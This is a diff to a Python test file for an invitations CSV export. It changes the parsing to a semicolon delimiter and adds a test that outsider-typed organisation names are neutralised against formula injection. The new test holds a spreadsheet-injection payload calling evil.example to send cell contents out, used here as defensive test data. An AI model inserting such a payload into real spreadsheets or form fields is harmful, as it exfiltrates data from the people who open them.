@@ -21,6 +21,7 @@ from accounts.models import User
 from breakouts.models import NotePoint
 from invitations.models import InvitationStatus
 from minutes.models import FollowUp, MinutesPage, Takeaway
+from records.contents.invitations import invitations_csv
 from records.services import consultation_archive_build
 from tests.minutes.workflow_helpers import draft_minutes
 from tests.records.conftest import NEEDS, make_filed, read_zip, zip_names
@@ -131,7 +132,7 @@ def test_invitations_csv_counts_attendees_and_holds_no_needs(filed, people, fake
     files = read_zip(build(filed, people))
     data = files["invitations.csv"]
     assert data.startswith("\ufeff".encode()), "a byte order mark, for spreadsheets"
-    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
     named, checked_in, status = sv("Named attendees"), sv("Checked in"), sv("Status")
     assert rows[0][0] == sv("Organisation") and named in rows[0]
     by_name = {row[0]: row for row in rows[1:]}
@@ -257,3 +258,17 @@ def test_the_number_of_queries_does_not_grow(index, people):
 
 # Today 29, of which 7 read the minutes (minutes/reading.py) and 9 write the record and the log entry.
 MAX_QUERIES = 32
+
+
+def test_invitations_csv_opens_as_columns_in_swedish_excel_and_runs_nothing():
+    """Organisation names are typed by outsiders: one starting with "=" is text, not a formula."""
+    name = '=HYPERLINK("http://evil.example/?"&A1;"Klicka")'
+    row = {
+        "organisation__name": name, "organisation__organisation_number": "802000-0000",
+        "organisation__kind": "", "organisation__county": "", "status": "accepted",
+        "sent_at": None, "answered_at": None, "named_attendees": 2, "checked_in": 1,
+    }
+    text = invitations_csv([row], seats_offered=3).decode("utf-8-sig")
+    header, line = list(csv.reader(io.StringIO(text), delimiter=";"))
+    assert len(header) == len(line) == 10
+    assert line[0] == "'" + name
